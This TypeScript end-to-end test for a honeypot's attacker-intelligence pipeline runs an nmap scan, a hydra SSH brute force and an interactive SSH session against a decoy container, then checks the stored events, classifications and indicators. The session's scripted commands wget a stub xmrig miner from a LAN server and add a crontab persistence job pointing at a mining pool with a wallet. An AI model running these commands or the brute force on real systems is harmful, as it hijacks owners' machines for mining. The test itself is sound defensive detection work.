// Issue 16 acceptance, end to end on the real Docker engine: one decky (ssh + http) deployed with the
// real decoy image, a test HTTP server on the decky LAN serving a "miner", and three attackers, each
// from its own network namespace on that LAN: `nmap -sV`, `hydra` against ssh, and an interactive SSH
// session (OpenSSH with a pty, commands typed with pauses) that downloads the miner and adds a cron
// job. Events travel the real path (container stdout → collector → ingest → SQLite) and the test
// asserts on what was stored. One deployment is shared by every case to keep the run short.
import { execFile, spawn } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import type { AttackerIntel, DecnetDatabase, LogRow } from '@decnet/db'
import { sqliteTestDatabase } from '@decnet/db/testing'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { tcpReady } from '../../../decoys/test/helpers.ts'
import { sshpassArgs } from '../../../decoys/test/support/ssh-client.ts'
import {
  type ArtifactGateway,
  artifactPaths,
  createArtifactStore,
  createFetcher,
  egressGuard,
  gatewayAttachment,
  startArtifactGateway,
} from '../../src/artifacts/index.ts'
import { createGeoLookup, DockerEngine, EnrichmentWorker } from '../../src/index.ts'
import { DockerLogCollector, IngestPipeline } from '../../src/workers-index.ts'
import {
  type AttackerNamespace,
  attackerNamespace,
  bridgeInterfaceOf,
} from '../support/attacker-namespaces.ts'
import { buildDecoyImage } from '../support/decoy-image.ts'
import { deckySpec, dockerTestbed, removeInstance } from '../support/docker.ts'

const runFile = promisify(execFile)
const { docker, instance, network } = dockerTestbed()
const provider = sqliteTestDatabase()
const DECKY = 'intel-01'
const deckyIp = `${network.prefix}.30`
const minerHost = `${network.prefix}.40`
const MINER_PORT = 8000
const minerUrl = `http://${minerHost}:${MINER_PORT}/xmrig`
/** The "miner": an ELF header and xmrig's banner text, served by the LAN container. */
const MINER = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]),
  Buffer.from('xmrig-6.21.0 donate-level 1 '.repeat(2000)),
])
const MINER_SHA256 = createHash('sha256').update(MINER).digest('hex')
const WALLET =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
const CRON_JOB = `*/5 * * * * /tmp/xmrig -o pool.supportxmr.com:3333 -u ${WALLET} >/dev/null 2>&1`
/**
 * Pause before each typed line: a person reads the output first. Long enough that the session spans
 * more than the classification's "scripted" window (5 commands within 5 s).
 */
const TYPING_PAUSE_MS = 1_200
const HUMAN_COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo',
  'cd /tmp',
  `wget ${minerUrl}`,
  'chmod +x xmrig',
  `(crontab -l 2>/dev/null; echo "${CRON_JOB}") | crontab -`,
  'crontab -l',
]

let db: DecnetDatabase
let pipeline: IngestPipeline
let collector: DockerLogCollector
let scanner: AttackerNamespace
let bruteForcer: AttackerNamespace
let human: AttackerNamespace
let workDir: string
let gateway: ArtifactGateway | undefined
const gatewayDir = mkdtempSync(join(tmpdir(), 'decnet-intel-gateway-'))

beforeAll(async () => {
  const image = buildDecoyImage()
  db = (await provider.open()).db
  pipeline = new IngestPipeline({ db, flushIntervalMs: 50 })
  collector = new DockerLogCollector({
    pipeline,
    settings: db.settings,
    instance,
    rescanIntervalMs: 1_000,
    reconnectInitialMs: 100,
    reconnectMaxMs: 1_000,
    onError: () => undefined,
  })
  await collector.start()
  // The artifact gateway fetches what the decoy shell's wget asks for (the decoys never fetch).
  const paths = artifactPaths(gatewayDir)
  const store = createArtifactStore(paths.storeDir)
  gateway = await startArtifactGateway({
    paths,
    db,
    store,
    fetcher: createFetcher({ store, guard: egressGuard(), egress: true }),
  })
  const engine = new DockerEngine({
    image,
    instance,
    networkName: `${instance}_lan`,
    readinessTimeoutMs: 60_000,
    artifactGateway: gatewayAttachment(gatewayDir),
  })
  await engine.deploy(
    deckySpec(DECKY, deckyIp, [
      // root's password is set (else the persona's own): the human session below logs in with it.
      { slug: 'ssh', ports: [{ port: 22, protocol: 'tcp' }], config: { password: 'admin' } },
      { slug: 'http', ports: [{ port: 80, protocol: 'tcp' }], config: {} },
    ]),
    network,
  )
  // The attacker's download server, on the decky LAN (the decoy image carries node; no other image needed).
  const server = await docker.createContainer({
    Image: image,
    Labels: { 'decnet.instance': instance, 'decnet.role': 'test-miner-server' },
    Cmd: [
      '-e',
      `const body = Buffer.from('${MINER.toString('base64')}', 'base64'); require('node:http').createServer((q, s) => q.url === '/xmrig' ? s.end(body) : s.writeHead(404).end()).listen(${MINER_PORT})`,
    ],
    HostConfig: { NetworkMode: `${instance}_lan` },
    NetworkingConfig: {
      EndpointsConfig: { [`${instance}_lan`]: { IPAMConfig: { IPv4Address: minerHost } } },
    },
  })
  await server.start()
  const bridge = await bridgeInterfaceOf(docker, `${instance}_lan`)
  scanner = attackerNamespace(bridge, `${network.prefix}.101`, network.gateway)
  bruteForcer = attackerNamespace(bridge, `${network.prefix}.102`, network.gateway)
  human = attackerNamespace(bridge, `${network.prefix}.103`, network.gateway)
  await Promise.all([tcpReady(deckyIp, 22), tcpReady(deckyIp, 80), tcpReady(minerHost, MINER_PORT)])
  workDir = mkdtempSync(join(tmpdir(), 'decnet-intel-'))
}, 400_000)

afterAll(async () => {
  for (const namespace of [scanner, bruteForcer, human]) namespace?.remove()
  await collector?.stop()
  await pipeline?.close()
  await removeInstance(docker, instance)
  await gateway?.close()
  rmSync(gatewayDir, { recursive: true, force: true })
  await provider.cleanup()
  if (workDir) rmSync(workDir, { recursive: true, force: true })
}, 120_000)

/** Every stored event of the decky from `ip`, oldest first. */
async function eventsFrom(ip: string): Promise<LogRow[]> {
  const rows: LogRow[] = []
  let cursor: string | undefined
  for (;;) {
    const page = await db.logs.search({ q: `decky:${DECKY}`, limit: 1000, ...(cursor ? { cursor } : {}) })
    rows.push(...page.rows.filter((row) => row.attackerIp === ip))
    if (!page.nextCursor) return rows.reverse()
    cursor = page.nextCursor
  }
}

/** Polls until `check` holds on the stored events from `ip` (the collector and ingest are asynchronous). */
async function storedFrom(ip: string, check: (rows: LogRow[]) => boolean): Promise<LogRow[]> {
  let rows: LogRow[] = []
  await expect
    .poll(
      async () => {
        rows = await eventsFrom(ip)
        return check(rows)
      },
      { timeout: 30_000, interval: 250 },
    )
    .toBe(true)
  return rows
}

/** What the ingest's intelligence stage stored for the attacker at `ip` (its profile, class, findings). */
async function storedIntel(ip: string): Promise<AttackerIntel> {
  const attacker = (await db.attackers.list({ q: ip })).rows.find((row) => row.ip === ip)
  const intel = attacker ? await db.intel.forAttacker(attacker.id) : null
  if (!intel) throw new Error(`no attacker intelligence stored for ${ip}`)
  return intel
}

/**
 * OpenSSH with a remote pty (`-tt`), password via sshpass, commands typed one at a time after the
 * prompt comes back with a pause between them, as a person would. Resolves with the whole screen.
 */
function interactiveSession(from: AttackerNamespace, password: string, commands: string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn(
      from.exec[0] as string,
      [...from.exec.slice(1), 'sshpass', ...sshpassArgs({ address: deckyIp, password, tty: true })],
      { stdio: ['pipe', 'pipe', 'pipe'] },
    )
    let screen = ''
    let typed = 0
    /** Screen length when the last line was typed: a prompt after it means that command is done. */
    let typedAt = -1
    const timer = setTimeout(() => {
      child.kill()
      reject(new Error(`interactive session stalled; screen so far:\n${screen}`))
    }, 90_000)
    child.stdout.on('data', (chunk: Buffer) => {
      screen += chunk.toString('utf8')
      if (screen.length <= typedAt || !/# $/.test(screen) || typed > commands.length) return
      const next = typed < commands.length ? `${commands[typed]}\n` : 'exit\n'
      typed++
      typedAt = Number.POSITIVE_INFINITY
      setTimeout(() => {
        typedAt = screen.length
        child.stdin.write(next)
      }, TYPING_PAUSE_MS)
    })
    child.stderr.on('data', (chunk: Buffer) => {
      screen += chunk.toString('utf8')
    })
    child.on('error', reject)
    child.on('close', () => {
      clearTimeout(timer)
      resolve(screen)
    })
  })
}

describe('attacker intelligence on a deployed decky (issue 16 acceptance)', () => {
  it('nmap -sV from its own address: its probes reach both services, are stored under that attacker, and classify it as a scanner (nmap) with evidence', async () => {
    const { stdout } = await runFile(
      scanner.exec[0] as string,
      [...scanner.exec.slice(1), 'nmap', '-sV', '-Pn', '-n', '-p', '22,80', deckyIp],
      { timeout: 240_000 },
    )
    expect(stdout).toMatch(/22\/tcp\s+open\s+ssh/)
    expect(stdout).toMatch(/80\/tcp\s+open\s+http/)
    const rows = await storedFrom(
      scanner.ip,
      (r) =>
        r.some((e) => e.service === 'ssh') &&
        r.some((e) => e.service === 'http' && e.eventType === 'request'),
    )
    // The -sV run's HTTP scripts announce themselves; no login is ever made.
    expect(rows.some((e) => String(e.fields.user_agent).includes('Nmap Scripting Engine'))).toBe(true)
    expect(rows.some((e) => e.eventType === 'auth_attempt' && e.fields.success === true)).toBe(false)
    const intel = await storedIntel(scanner.ip)
    expect(intel.classification.class).toBe('scanner')
    expect(intel.classification.evidence.join(' | ')).toMatch(/nmap/i)
    expect(intel.tools.map((t) => t.tool)).toContain('nmap')
    expect(intel.techniques.map((t) => t.technique)).toContain('T1595')
  }, 300_000)

  it('hydra against ssh from its own address: every guess is stored as a failed ssh login; classified brute-forcer with evidence, T1110.001', async () => {
    const passwords = Array.from(
      { length: 16 },
      (_, i) => `guess-${i}-${['qwerty', 'letmein', 'dragon'][i % 3]}`,
    )
    const list = join(workDir, 'passwords.txt')
    writeFileSync(list, `${passwords.join('\n')}\n`)
    await runFile(
      bruteForcer.exec[0] as string,
      [...bruteForcer.exec.slice(1), 'hydra', '-I', '-l', 'root', '-P', list, '-t', '4', `ssh://${deckyIp}`],
      { timeout: 240_000, cwd: workDir },
    ).catch((failure: { stdout?: string }) => failure)
    const rows = await storedFrom(
      bruteForcer.ip,
      (r) =>
        new Set(r.filter((e) => e.eventType === 'auth_attempt').map((e) => e.fields.password)).size >=
        passwords.length,
    )
    const attempts = rows.filter((e) => e.eventType === 'auth_attempt')
    expect(new Set(attempts.map((e) => e.fields.password))).toEqual(new Set(passwords))
    // hydra speaks SSH through libssh: its client version is on every attempt.
    expect(attempts.every((e) => String(e.fields.client_version).startsWith('SSH-2.0-libssh'))).toBe(true)
    const intel = await storedIntel(bruteForcer.ip)
    expect(intel.classification.class).toBe('brute_forcer')
    // hydra may repeat a guess when the decoy drops a connection: attempts ≥ guesses, all failed.
    const [attempted, failed] = /(\d+) login attempts \((\d+) failed\) with 16 credentials/
      .exec(intel.classification.evidence[0] ?? '')
      ?.slice(1)
      .map(Number) ?? [0, -1]
    expect(attempted).toBeGreaterThanOrEqual(16)
    expect(failed).toBe(attempted)
    expect(intel.techniques.map((t) => t.technique)).toContain('T1110.001')
    expect(
      attempts.every(
        (e) => e.service === 'ssh' && e.fields.success === false && e.fields.username === 'root',
      ),
    ).toBe(true)
  }, 300_000)

  it('an interactive SSH session downloads the miner from the LAN server and installs a cron job: commands, download (url, sha256, size) and cron job stored; interactive with evidence; T1105, T1053.003, T1496 tagged; URL, IP, hash and wallet extracted; the recording replays the typed commands', async () => {
    const screen = await interactiveSession(human, 'admin', HUMAN_COMMANDS)
    expect(screen).toMatch(/HTTP request sent, awaiting response\.\.\. 200 OK/)
    expect(screen).toContain(CRON_JOB)
    const rows = await storedFrom(
      human.ip,
      (r) => r.some((e) => e.eventType === 'download') && r.some((e) => e.fields.cmd === 'exit'),
    )
    const commands = rows.filter((e) => e.eventType === 'command').map((e) => e.fields.cmd)
    expect(commands).toEqual([...HUMAN_COMMANDS, 'exit'])
    expect(rows.find((e) => e.eventType === 'auth_attempt')?.fields).toMatchObject({
      success: true,
      username: 'root',
    })
    expect(rows.find((e) => e.eventType === 'download')?.fields).toMatchObject({
      url: minerUrl,
      sha256: MINER_SHA256,
      size: MINER.length,
      filename: 'xmrig',
      path: '/tmp/xmrig',
      truncated: false,
      status: 200,
    })
    expect(rows.find((e) => e.eventType === 'cron_job')?.fields).toMatchObject({
      jobs: CRON_JOB,
      via: 'crontab',
    })
    // The OpenSSH client's KEXINIT was fingerprinted at the decoy: HASSH is the MD5 of its algorithm lists.
    const kexinit = rows.find((e) => e.eventType === 'ssh_client_kexinit')?.fields ?? {}
    expect(String(kexinit.client_version)).toMatch(/^SSH-2\.0-OpenSSH_/)
    expect(kexinit.hassh).toBe(createHash('md5').update(String(kexinit.hassh_algorithms)).digest('hex'))
    const intel = await storedIntel(human.ip)
    expect(intel.fingerprints.map((f) => `${f.kind}:${f.value}`)).toContain(`hassh:${kexinit.hassh}`)
    expect(intel.classification.class).toBe('interactive')
    expect(intel.classification.evidence).toEqual([
      '8 commands typed in 1 terminal session',
      '1 file brought onto the decky',
    ])
    const techniques = intel.techniques.map((t) => t.technique)
    for (const technique of ['T1105', 'T1053.003', 'T1496', 'T1059.004', 'T1082'])
      expect(techniques).toContain(technique)
    const indicators = intel.iocs.map((ioc) => `${ioc.kind}:${ioc.value}`)
    expect(indicators).toEqual(
      expect.arrayContaining([
        `url:${minerUrl}`,
        `ip:${minerHost}`,
        `sha256:${MINER_SHA256}`,
        `wallet:${WALLET}`,
      ]),
    )
    // The session was recorded and replays: asciicast frames with rising times, the typed commands in
    // the keystrokes, and what the decky answered (the download, the cron job) in the output.
    // Its last frames arrive with tty_end, after the session closed: wait for the recording's end.
    await expect
      .poll(async () => (await db.sessions.terminalForAttacker(human.ip, 10)).rows[0]?.endedAt ?? null, {
        timeout: 30_000,
        interval: 250,
      })
      .not.toBeNull()
    const recorded = await db.sessions.terminalForAttacker(human.ip, 10)
    expect(recorded.total).toBe(1)
    const session = recorded.rows[0]
    expect(session).toMatchObject({
      decky: DECKY,
      service: 'ssh',
      username: 'root',
      via: 'ssh',
      truncated: false,
    })
    const replay = await db.sessions.get(session?.id ?? '')
    const frames = replay?.frames ?? []
    expect(frames.every(([time], i) => i === 0 || time >= (frames[i - 1]?.[0] ?? 0))).toBe(true)
    const typed = frames
      .filter(([, kind]) => kind === 'i')
      .map(([, , text]) => text)
      .join('')
    for (const command of HUMAN_COMMANDS) expect(typed).toContain(command)
    const shown = frames
      .filter(([, kind]) => kind === 'o')
      .map(([, , text]) => text)
      .join('')
    expect(shown).toMatch(/HTTP request sent, awaiting response\.\.\. 200 OK/)
    expect(shown).toContain(CRON_JOB)
    // Typed at a person's pace: the replay lasts as long as the session did, pauses included.
    expect(frames.at(-1)?.[0] ?? 0).toBeGreaterThan(((HUMAN_COMMANDS.length + 1) * TYPING_PAUSE_MS) / 1000)
  }, 180_000)
  it('enrichment: the three attackers on the decky LAN (198.18.0.0/15) are labelled benchmarking, with no geo/ASN and no reverse DNS', async () => {
    const attackers = [scanner.ip, bruteForcer.ip, human.ip]
    const geo = createGeoLookup()
    const asked: string[] = []
    const lookup = geo.lookup.bind(geo)
    geo.lookup = (ip) => {
      asked.push(ip)
      return lookup(ip)
    }
    await new EnrichmentWorker({ db, geo }).drain()
    expect(asked.filter((ip) => attackers.includes(ip))).toEqual([])
    const stored = await db.enrichment.forIps(attackers)
    for (const ip of attackers)
      expect(stored.get(ip)).toMatchObject({
        label: 'benchmarking',
        country: null,
        asn: null,
        rdnsStatus: 'skipped',
      })
  }, 60_000)
})
